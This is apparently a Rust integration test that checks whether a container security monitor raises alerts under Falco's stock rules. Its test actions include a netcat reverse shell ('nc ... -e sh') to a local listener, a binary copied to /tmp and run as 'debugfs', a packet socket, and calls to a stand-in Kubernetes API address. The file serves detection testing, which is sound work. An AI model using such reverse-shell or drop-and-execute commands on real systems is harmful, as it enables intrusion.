//! Falco's stock rules as they are (FALCO_RULES), set off for real in containers: those that need to know what a
//! descriptor refers to, whether a container is privileged, and where a program's file comes from.

#![allow(clippy::unwrap_used, clippy::panic)] // tests fail by panicking

mod support;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::PathBuf;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use support::containerd::{BUSYBOX, Containerd, Run};
use support::lanner::{self, Lanner, field};
use support::skip;

const REDIRECT: &str = "Redirect STDOUT/STDIN to Network Connection in Container";
const DEBUGFS: &str = "Debugfs Launched in Privileged Container";
const API_SERVER_CALLED: &str = "Contact K8S API Server From Container";
const PACKET_SOCKET: &str = "Packet socket created in container";
const DROPPED: &str = "Drop and execute new binary in container";

const API_SERVER: &str = "127.0.0.9";

/// Where the stock rules are; or why they are not at hand.
fn stock_rules() -> Result<PathBuf, String> {
    let default = || PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/falco/falco_rules.yaml");
    let path = std::env::var_os("FALCO_RULES").map_or_else(default, PathBuf::from);
    match path.try_exists() {
        Ok(true) => Ok(path),
        _ => Err(format!(
            "{} is not there; set FALCO_RULES to Falco's falco_rules.yaml",
            path.display()
        )),
    }
}

fn machine() -> Result<(Containerd, Lanner), String> {
    let rules = stock_rules()?;
    if let Some(reason) = lanner::impossible() {
        return Err(reason);
    }
    let containerd = Containerd::start()?;
    let mut arguments = lanner::options(Some(&containerd));
    arguments.extend(["-r".to_owned(), rules.to_str().unwrap().to_owned()]);
    // As Falco's own configuration has it: every alert says which container it is about.
    arguments.extend([
        "-o".to_owned(),
        "append_output[].suggested_output=true".to_owned(),
    ]);
    let mut command = std::process::Command::new(lanner::PROGRAM);
    // What a pod is told of its cluster: 127.0.0.9 is the API server's address.
    command
        .args(&arguments)
        .env("KUBERNETES_SERVICE_HOST", API_SERVER);
    let lanner = Lanner::start_command(command);
    lanner.wait_for_log("that the runtime knows it", |line| {
        line.contains("connected to containerd")
    });
    Ok((containerd, lanner))
}

#[test]
fn rules_about_descriptors_and_privileged_containers_are_set_off() {
    let _alone = support::alone();
    let (containerd, lanner) = match machine() {
        Ok(machine) => machine,
        Err(reason) => return skip(&reason),
    };
    let (plain_pod, privileged_pod) = (
        containerd.pod("shop", "plain"),
        containerd.privileged_pod("shop", "mighty"),
    );
    let plain = containerd.run(&plain_pod, Run::new("web", BUSYBOX));
    let privileged = Run {
        privileged: true,
        ..Run::new("admin", BUSYBOX)
    };
    let privileged = containerd.run(&privileged_pod, privileged);

    // The same program in both; only one is privileged. Its file is not from the image.
    let dropped = "cp /bin/busybox /tmp/debugfs && /tmp/debugfs; true";
    containerd.exec(&plain, &["sh", "-c", dropped]);
    containerd.exec(&privileged, &["sh", "-c", dropped]);

    // It has a packet socket, whether or not anybody answers.
    let arping = ["busybox", "arping", "-c", "1", "-w", "1", "-I", "lo", "127.0.0.1"];
    containerd.exec(&plain, &arping);

    // A reverse shell: the shell's input and output are the connection.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let attacker = std::thread::spawn(move || {
        let (mut shell, _) = listener.accept().unwrap();
        shell.write_all(b"echo I am in; exit\n").unwrap();
        let mut said = String::new();
        shell.read_to_string(&mut said).unwrap();
        said
    });
    let port = address.port().to_string();
    containerd.exec(&plain, &["nc", "127.0.0.1", &port, "-e", "sh"]);
    assert_eq!(attacker.join().unwrap(), "I am in\n");

    // The API server is told by its name, which the rules mention; Lanner has to have looked it up.
    let (api, other) = (
        TcpListener::bind((API_SERVER, 0)).unwrap(),
        TcpListener::bind("127.0.0.1:0").unwrap(),
    );
    let port_of = |listener: &TcpListener| listener.local_addr().unwrap().port().to_string();
    let (api_port, other_port) = (port_of(&api), port_of(&other));
    containerd.exec(&plain, &["nc", "127.0.0.1", &other_port, "-e", "true"]);
    let called = support::wait_for("an alert about the API server", Duration::from_secs(60), || {
        containerd.exec(&plain, &["nc", API_SERVER, &api_port, "-e", "true"]);
        let alerts = lanner.alerts();
        alerts
            .into_iter()
            .find(|alert| alert["rule"] == API_SERVER_CALLED)
    });
    assert_eq!(field(&called, "fd.rport"), api_port, "{called}");

    let of = |rule: &'static str, container: &str| {
        let id = container[..12].to_owned();
        move |alert: &serde_json::Value| alert["rule"] == rule && field(alert, "container.id") == id
    };
    let redirected = lanner.wait_for_alert("the reverse shell", of(REDIRECT, &plain));
    assert_eq!(field(&redirected, "fd.type"), "ipv4");
    assert_eq!(field(&redirected, "fd.l4proto"), "tcp");
    assert_eq!(field(&redirected, "fd.sip"), "127.0.0.1");
    assert_eq!(field(&redirected, "fd.rport"), port);
    let name = field(&redirected, "fd.name");
    assert!(name.ends_with(&format!("->{address}")), "{name}");

    let packets = lanner.wait_for_alert("the packet socket", of(PACKET_SOCKET, &plain));
    assert!(
        field(&packets, "evt.args").contains("domain=17(AF_PACKET)"),
        "{packets}"
    );
    let launched = lanner.wait_for_alert("debugfs", of(DEBUGFS, &privileged));
    assert_eq!(field(&launched, "proc.name"), "debugfs");
    // The first rule that matches is the one that alerts: in the other container that was the one before.
    let dropped = lanner.wait_for_alert("the dropped program", of(DROPPED, &plain));
    let time = |name: &str| -> u128 { field(&dropped, name).parse().unwrap() };
    let (changed, written) = (time("proc.exe_ino.ctime"), time("proc.exe_ino.mtime"));
    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos();
    assert!(written <= changed && changed <= now, "{dropped}");
    assert!(
        now - changed < 600_000_000_000,
        "it was written just now: {dropped}"
    );
    let alerts = lanner.alerts();
    assert!(
        !alerts.iter().any(of(DEBUGFS, &plain)),
        "the plain container is not privileged: {alerts:?}"
    );
    let elsewhere = |alert: &serde_json::Value| {
        alert["rule"] == API_SERVER_CALLED && field(alert, "fd.rport") == other_port
    };
    assert!(!alerts.iter().any(elsewhere), "{alerts:?}");
    assert_eq!(lanner.stop().status.code(), Some(0));
}
